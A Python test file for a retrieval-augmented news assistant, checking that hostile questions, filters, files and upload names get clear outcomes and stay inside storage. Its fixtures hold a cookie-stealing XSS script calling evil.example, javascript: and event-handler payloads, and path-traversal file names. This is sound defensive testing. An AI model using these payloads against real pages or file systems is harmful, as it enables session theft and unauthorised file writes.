"""Malformed and hostile input: questions, filters, files and upload names.

Each gets a clear outcome a user can read (an answer, an abstention, or a one-line error),
never a traceback or a hang; nothing is written outside the storage folder, and the articles
already stored are all still there and answerable afterwards.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from llama_index.core.base.embeddings.base import BaseEmbedding

from rag.answer import Answer
from rag.assistant import MAX_QUESTION_TOKENS, Assistant
from rag.errors import ArticleError
from rag.library import ingest_uploads, safe_file_name, save_upload, uploads_dir
from rag.records import AskOptions, Filters
from rag.settings import Settings
from rag.store import CorpusStore
from tests.support.cli import rag, rag_ask
from tests.support.ingest import IngestFn
from tests.support.pdf import encrypted_pdf
from tests.support.project import PROJECT, make_settings
from tests.support.samples import make_pdf

OFFICE = "Where did Japan open an official office to NATO?"
CONTROLS = "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\r\u202e\u202d\u2066\u200b\u2028\u2029\ufeff"


NO_NOPE = "No article matches these filters: no article 'nope' in the corpus."


def assert_clear_outcome(answer: Answer) -> None:
    """Exactly one of: a cited answer, an abstention, a one-line error; shown text either way."""
    assert answer.text and "Traceback" not in answer.text
    if answer.error:
        assert "\n" not in answer.error and not answer.citations and len(answer.error) < 200
    elif answer.abstained:
        assert not answer.citations
    else:
        assert answer.citations and "[1]" in answer.text
    assert not any(c in answer.question for c in CONTROLS), "controls reach the terminal and the page"


def cites_brussels(answer: Answer) -> bool:
    return not answer.abstained and any("Brussels" in c.quote for c in answer.citations)


# --- questions --------------------------------------------------------------------------------


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("question", "outcome"),
    [
        ("", "error: the question is empty"),
        ("   \n\t  ", "error: the question is empty"),
        (CONTROLS, "error: the question is empty"),
        ("\x1b[31m\x1b[0m\x1b]0;title\x07", "error: the question is empty"),
        ("What did Kishida say about NATO? " * 3000, "error: the question is too long (98,999 characters"),
        ("Kishida NATO " * 400, f"error: the question is too long (1,600 tokens; the limit is {MAX_QUESTION_TOKENS})"),
        (f"\x00\x1b[31m{OFFICE}\x1b[0m\r\u202e", "cites Brussels"),
        (f"Where\u2028did Japan open\u200b an official\x0boffice to NATO?{CONTROLS}", "cites Brussels"),
        (f"🇯🇵🤝 {OFFICE} 😀👨‍👩‍👧", "cites Brussels"),
        # no word of it is in the (English) corpus, so no passage is evidence for an answer
        ("ماذا قال كيشيدا عن الناتو؟", "abstains: could not find an answer"),
        ('מה אמר קישידה על נאט"ו?', "abstains: could not find an answer"),
        ("\u202eOTAN ot eciffo na nepo napaJ did erehW", "abstains"),
        ("What did Kishida say about NATO and " + "Japan, " * 120 + "and Taiwan?", "answers"),
    ],
    ids=[
        "empty",
        "whitespace",
        "controls-only",
        "escapes-only",
        "100k-chars",
        "1600-tokens",
        "ansi-and-rtl-around-a-question",
        "every-control-inside-a-question",
        "emoji",
        "arabic",
        "hebrew",
        "rtl-override-reversed",
        "400-tokens",
    ],
)
def test_every_question_gets_an_answer_an_abstention_or_a_one_line_error(
    assistant: Assistant, question: str, outcome: str
) -> None:
    started = time.perf_counter()
    answer = assistant.ask(question)
    elapsed = time.perf_counter() - started
    assert_clear_outcome(answer)
    kind, _, detail = outcome.partition(": ")
    if kind == "error":
        assert answer.error.startswith(detail), answer.error
        assert elapsed < 2, "a refused question must not be embedded or retrieved"
    elif kind == "cites Brussels":
        assert cites_brussels(answer), answer.text
        assert answer.question.startswith(("Where did Japan open", "🇯🇵🤝 Where did Japan"))
    elif kind == "abstains":
        assert answer.abstained and not answer.error and detail in answer.text
    else:
        assert not answer.error and (answer.citations or answer.abstained)


def test_a_hostile_question_in_a_conversation_leaves_the_next_one_answerable(assistant: Assistant) -> None:
    from rag.conversation import Turn

    bad = assistant.ask("\x00" * 50)
    good = assistant.ask(OFFICE, [Turn(bad.question, bad.text)])
    assert bad.error and cites_brussels(good)


def test_ask_json_gives_one_json_line_per_question_whatever_the_bytes_on_stdin(bundled_settings: Settings) -> None:
    lines = [
        f"\x1b[31m{OFFICE}\x1b[0m\u202e",
        "\x00\x1b[0m\r",  # nothing left once cleaned: not a question
        "ماذا قال كيشيدا عن الناتو؟",
        f"🇯🇵 {OFFICE} 😀",
        "What did Kishida say? " * 5000,
        "",
    ]
    started = time.monotonic()
    result = rag_ask("--json", stdin="\n".join(lines) + "\n", storage=bundled_settings.storage_dir)
    assert time.monotonic() - started < 240
    assert "Traceback" not in result.stderr
    assert result.returncode == 1, "a refused question shows in the exit code"
    answers = [json.loads(line) for line in result.stdout.split("\n") if line]
    assert len(answers) == len(result.stdout.splitlines()) == 4, "one JSON object a line, even for U+2028"
    ansi, arabic, emoji, long = answers
    assert ansi["question"] == OFFICE and "Brussels" in ansi["answer"] and "\x1b" not in result.stdout
    assert arabic["abstained"] and "could not find an answer" in arabic["answer"]
    assert emoji["citations"] and emoji["question"].startswith("🇯🇵")
    assert long["error"].startswith("the question is too long") and long["citations"] == []


def test_stdin_that_is_not_utf8_is_read_not_a_traceback(bundled_settings: Settings) -> None:
    env = {**os.environ, "RAG_STORAGE_DIR": str(bundled_settings.storage_dir), "PYTHONPATH": str(PROJECT)}
    result = subprocess.run(
        [sys.executable, "-m", "rag", "ask", "--json", "--article", "nope"],
        input=b"caf\xe9 \xff\xfe in Brussels?\n",
        cwd=PROJECT,
        capture_output=True,
        timeout=300,
        env=env,
    )
    assert result.returncode == 0 and b"Traceback" not in result.stderr, result.stderr.decode(errors="replace")
    (answer,) = [json.loads(line) for line in result.stdout.splitlines()]
    assert answer["question"] == "caf\ufffd \ufffd\ufffd in Brussels?"
    assert (
        answer["abstained"] and answer["answer"] == "No article matches these filters: no article 'nope' in the corpus."
    )


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["ask", ""], "error: no question given: pass it as an argument or on stdin"),
        (["ask", " \t "], "error: no question given: pass it as an argument or on stdin"),
        (["ask", "--since", "last tuesday", OFFICE], "error: --since 'last tuesday' is not a date: use YYYY, "),
        (["ask", "--until", "2023-02-30", OFFICE], "error: --until '2023-02-30' is not a date"),
        (["ask", "--since", "2023-13", OFFICE], "error: --since '2023-13' is not a date"),
        (["ask", "--top-k", "0", OFFICE], "argument --top-k: expected a whole number of at least 1, got '0'"),
        (["ask", "--per-article", "-3", OFFICE], "argument --per-article: expected a whole number of at least 1"),
    ],
)
def test_bad_command_line_input_is_refused_in_one_line_before_loading_anything(
    tmp_path: Path, args: list[str], message: str
) -> None:
    result = rag(*args, storage=tmp_path / "storage", cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert message in result.stderr.strip().splitlines()[-1]
    assert not (tmp_path / "storage").exists(), "nothing was opened or written"


# --- filters ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filters", "says"),
    [
        (Filters(doc_ids=("nope",)), "No article matches these filters: no article 'nope' in the corpus."),
        (Filters(doc_ids=("",)), "No article matches these filters: no article '' in the corpus."),
        (Filters(speakers=("Nobody Atall",)), "no speaker 'Nobody Atall' in the corpus"),
        (Filters(sources=("The Daily Nothing",)), "no source 'The Daily Nothing' in the corpus"),
        (Filters(authors=("A. Nonymous", "B. Nonymous")), "no author 'A. Nonymous', 'B. Nonymous' in the corpus"),
        (Filters(published_from="2024-01-01", published_to="2020-01-01"), "the date range 2024-01-01 to 2020-01-"),
        (Filters(published_from="2999"), "no article with a known date was published between 2999 and now"),
        (
            Filters(published_to="1900-01-01"),
            "with a known date was published between the earliest date and 1900-01-01",
        ),
        (Filters(doc_ids=("nope",), speakers=("Nobody",)), "no article 'nope' in the corpus; no speaker 'Nobody'"),
    ],
)
def test_filters_that_match_no_article_say_so(assistant: Assistant, filters: Filters, says: str) -> None:
    answer = assistant.ask(OFFICE, options=AskOptions(filters=filters))
    assert_clear_outcome(answer)
    assert answer.abstained and not answer.error and says in answer.text
    assert answer.text.startswith("No article matches these filters: ")


def test_filters_that_each_match_but_not_together_say_so(assistant: Assistant) -> None:
    first, second = (r.doc_id for r in assistant.articles())
    options = AskOptions(filters=Filters(doc_ids=(first,), published_from="2999"))
    answer = assistant.ask(OFFICE, options=options)
    assert answer.abstained and "No article matches these filters" in answer.text
    assert assistant.ask(OFFICE, options=AskOptions(filters=Filters(doc_ids=(first, second)))).citations


@pytest.mark.parametrize("date", ["soon", "2023-13-45", "yesterday"])
def test_a_filter_date_that_is_not_a_date_is_a_one_line_error(assistant: Assistant, date: str) -> None:
    answer = assistant.ask(OFFICE, options=AskOptions(filters=Filters(published_from=date)))
    assert_clear_outcome(answer)
    assert answer.error == f"{date!r} is not a date: use YYYY, YYYY-MM or YYYY-MM-DD"


def test_an_article_id_prefix_filters_like_the_whole_id(assistant: Assistant) -> None:
    taiwan = next(r for r in assistant.articles() if "Taiwan" in r.title)
    answer = assistant.ask(OFFICE, options=AskOptions(filters=Filters(doc_ids=(taiwan.doc_id[:6],))))
    assert cites_brussels(answer) and {c.doc_id for c in answer.citations} == {taiwan.doc_id}


def test_an_unknown_article_filter_on_the_command_line_is_a_clear_abstention(bundled_settings: Settings) -> None:
    result = rag_ask("--article", "nope", f"\x1b[2J\x1b[31m{OFFICE}\u202e", storage=bundled_settings.storage_dir)
    assert result.returncode == 0 and "Traceback" not in result.stderr
    assert f"Q: {OFFICE}\n" in result.stdout and "\x1b" not in result.stdout and "\u202e" not in result.stdout
    assert NO_NOPE in result.stdout


# --- files and upload names -----------------------------------------------------------------------

ARTICLE = "Harbour pilots of Tromsø reported that the new quay opened in {month}.\n"
HOSTILE_HTML = b"""<html><head><title>Harbour quay opens</title>
<script>document.cookie = "stolen"; fetch("https://evil.example/?c=" + document.cookie)</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="alert('onload')"><nav><a href="javascript:alert(2)">Home</a></nav>
<article><h1>Harbour quay opens</h1>
<p onclick="alert(3)">The harbour master of Narvik said the new deep-water quay opened on Monday after three years
of work, and that the first ferry will dock there in June.</p>
<img src="x" onerror="alert(4)"><iframe src="javascript:alert(5)"></iframe>
<p onmouseover="steal()">Dockworkers' unions welcomed the opening, the harbour master of Narvik added.</p>
</article><script>alert(6)</script></body></html>"""


# name, bytes, what ingest (or the upload) says: "" when the file becomes an article.
HOSTILE_FILES: list[tuple[str, bytes, str]] = [
    ("binary.txt", bytes(range(256)) * 8, "binary file (contains NUL bytes), not text"),
    ("terminal.txt", b"\x1b[31m\x07\x08\x1b[2J" * 200, "control characters), not text"),
    ("latin1.txt", "Tromsø café".encode("latin-1"), "not valid UTF-8 (byte 0xf8 at offset 5)"),
    ("utf16.md", "Harbour news".encode("utf-16"), "binary file (contains NUL bytes), not text"),
    ("empty.txt", b"", "empty file"),
    ("blank.md", b" \n\t\r\n ", "empty file"),
    ("huge.txt", ARTICLE.format(month="May").encode() * 2000, "too large (0.13 MiB > 0.10 MiB; raise RAG_MAX_FILE_MB"),
    ("corrupt.pdf", make_pdf(["The harbour report."])[:300], "unreadable PDF"),
    ("garbage.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4, "unreadable PDF"),
    ("locked.pdf", encrypted_pdf("secret"), "the PDF is password-protected: save a copy without the password"),
    ("scripts-only.html", b"<html><script>alert(1)</script><body onload='x()'></body></html>", "no article text"),
    ("page.exe", b"MZ\x90\x00", "unsupported file type '.exe'"),
    ("open-locked.pdf", encrypted_pdf(""), ""),  # an empty user password: readable, so it is read
    ("hostile.html", HOSTILE_HTML, ""),
]


@pytest.fixture
def limited_settings(tmp_path: Path) -> Settings:
    """A store with a 0.1 MB file limit, so a huge file is cheap to make."""
    return make_settings(storage_dir=tmp_path / "storage", max_file_mb=0.1)


def files_outside(root: Path, storage: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() and storage not in p.parents}


def assert_bundled_articles_answerable(settings: Settings, embedder: BaseEmbedding) -> Assistant:
    store = CorpusStore.open(settings)
    titles = {r.title for r in store.list_articles()}
    assert {"Japan edges towards NATO ahead of the Madrid summit"} <= titles and len(titles) >= 2
    fresh = Assistant.open(settings, embedder=embedder)
    assert cites_brussels(fresh.ask(OFFICE))
    return fresh


def test_hostile_uploads_get_one_line_reasons_and_the_stored_articles_stay(
    limited_settings: Settings,
    corpus_dir: Path,
    run_ingest: IngestFn,
    local_embedder: BaseEmbedding,
    tmp_path: Path,
) -> None:
    run_ingest(limited_settings, corpus_dir)
    outside = files_outside(tmp_path, limited_settings.storage_dir)
    saved: list[Path] = []
    refused: dict[str, str] = {}
    for name, data, _ in HOSTILE_FILES:  # as the corpus page does: save, then ingest what was saved
        try:
            saved.append(save_upload(limited_settings, name, data))
        except ArticleError as exc:
            refused[name] = str(exc)
    report = ingest_uploads(limited_settings, saved, load_embedder=lambda: local_embedder)
    said = {**refused, **{Path(path).name: reason for path, reason in report.skipped}}
    for name, _, reason in HOSTILE_FILES:
        if reason:
            assert reason in said[name], (name, said.get(name))
            assert "\n" not in said[name] and "Traceback" not in said[name]
        else:
            assert name not in said, said.get(name)
    # Refused uploads whose problem shows without reading them whole are never written; the
    # ones ingest refuses (damaged PDFs, ...) are deleted again: only stored articles' files stay.
    stored = {p.name for p in saved if p.name not in said}
    assert {p.name for p in uploads_dir(limited_settings).iterdir()} == stored
    damaged = {"corrupt.pdf", "garbage.pdf", "locked.pdf"}
    assert damaged <= {p.name for p in saved} and not damaged & stored
    assert not {"binary.txt", "latin1.txt", "empty.txt", "huge.txt", "page.exe"} & {p.name for p in saved}
    assert files_outside(tmp_path, limited_settings.storage_dir) == outside

    fresh = assert_bundled_articles_answerable(limited_settings, local_embedder)
    quay = fresh.ask("When will the first ferry dock at the new quay in Narvik?")
    assert not quay.abstained and "June" in quay.text
    html = fresh.article_text(quay.citations[0].doc_id)
    for script in ("<script", "alert(", "onload", "onerror", "onclick", "javascript:", "document.cookie", "<iframe"):
        assert script not in html
    assert not fresh.ask("What was approved in the locked harbour report?").abstained


HOSTILE_NAMES = [
    "../../escape.txt",
    "../../../../../../../../tmp/escape.txt",
    "/etc/absolute.txt",
    "C:\\Windows\\system32\\drivers.txt",
    "x" * 300 + ".txt",
    "日本語" * 100 + ".md",
    "a." + "b" * 300,
    "nul\x00byte.txt",
    "evil\u202etxt.md",
    "e\u0301\u0302\u0303\u0304.txt",
    "...",
    ".",
    "..",
    " . . .txt",
    "\n\r\t.txt",
    "CON.txt",
]


def test_upload_names_of_any_kind_stay_inside_the_uploads_folder_within_name_limits(
    embedded_settings: Settings, tmp_path: Path
) -> None:
    folder = uploads_dir(embedded_settings).resolve()
    outside = files_outside(tmp_path, embedded_settings.storage_dir)
    for i, name in enumerate(HOSTILE_NAMES):
        data = ARTICLE.format(month=f"month {i}").encode()
        clean = safe_file_name(name)
        if not clean.endswith((".txt", ".md")):
            with pytest.raises(ArticleError, match="unsupported file type"):
                save_upload(embedded_settings, name, data)
            continue
        path = save_upload(embedded_settings, name, data)
        assert path.parent == folder and path.read_bytes() == data
        assert not path.name.startswith(".") and "/" not in path.name and "\\" not in path.name
        assert len(path.name.encode()) <= 255 - len("-999"), "room for a numbered twin"
        assert all(c.isprintable() for c in path.name), repr(path.name)
    assert files_outside(tmp_path, embedded_settings.storage_dir) == outside
    assert not Path("/tmp/escape.txt").exists() and not Path("/etc/absolute.txt").exists()


def test_the_same_upload_twice_is_one_file_and_one_article(embedded_settings: Settings, run_ingest: IngestFn) -> None:
    data = ARTICLE.format(month="April").encode()
    first = save_upload(embedded_settings, "quay.txt", data)
    run_ingest(embedded_settings, first)
    again = save_upload(embedded_settings, "quay.txt", data)
    report = run_ingest(embedded_settings, again)
    assert again == first and len(list(uploads_dir(embedded_settings).iterdir())) == 1
    assert report.unchanged == [report.unchanged[0]] and not report.added
    renamed = save_upload(embedded_settings, "other name.txt", data)
    report = run_ingest(embedded_settings, renamed)
    records = CorpusStore.open(embedded_settings).list_articles()
    assert len(records) == 1 and len(records[0].files) == 2, "one article, listed under both names"


def test_ingest_from_the_command_line_reports_each_bad_file_on_one_line_and_keeps_the_rest(
    embedded_settings: Settings, corpus_dir: Path, local_embedder: BaseEmbedding, tmp_path: Path
) -> None:
    # One process writes: an embedded Chroma opened here first would not see the CLI's vectors.
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    for name, data, _ in HOSTILE_FILES:
        (hostile / name).write_bytes(data)
    # Names a file system allows and a terminal should not print raw.
    (hostile / "two\nlines.txt").write_bytes(b"\x00 not text")
    (hostile / "\x1b[31mred.md").write_bytes(b"")
    (hostile / "rtl\u202etxt.pdf").write_bytes(b"%PDF-1.4 nope")
    os.close(os.open(bytes(hostile) + b"/not-utf8-\xff.txt", os.O_WRONLY | os.O_CREAT))
    outside = files_outside(tmp_path, embedded_settings.storage_dir)
    result = rag(
        "ingest",
        "corpus",
        "hostile",
        storage=embedded_settings.storage_dir,
        cwd=tmp_path,
        env={"RAG_MAX_FILE_MB": "0.1"},
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr[-2000:]
    skipped = result.stderr.strip().split("\n")
    bad = [name for name, _, reason in HOSTILE_FILES if reason]
    assert len(skipped) == len(bad) + 4, skipped
    assert all(line.startswith("skipped hostile/") for line in skipped)
    for name, _, reason in HOSTILE_FILES:
        if reason:
            assert any(line.startswith(f"skipped hostile/{name}: ") and reason in line for line in skipped), name
    for shown in (
        "skipped hostile/two\\nlines.txt: binary file (contains NUL bytes), not text",
        "skipped hostile/\\x1b[31mred.md: empty file",
        "skipped hostile/rtl\\u202etxt.pdf: unreadable PDF",
        "skipped hostile/not-utf8-\\udcff.txt: empty file",
    ):
        assert any(line.startswith(shown) for line in skipped), shown
    assert "articles: 4 added, 0 updated, 0 unchanged" in result.stdout, "the bundled two and the readable two"
    assert files_outside(tmp_path, embedded_settings.storage_dir) == outside
    fresh = assert_bundled_articles_answerable(embedded_settings, local_embedder)
    assert "June" in fresh.ask("When will the first ferry dock at the new quay in Narvik?").text
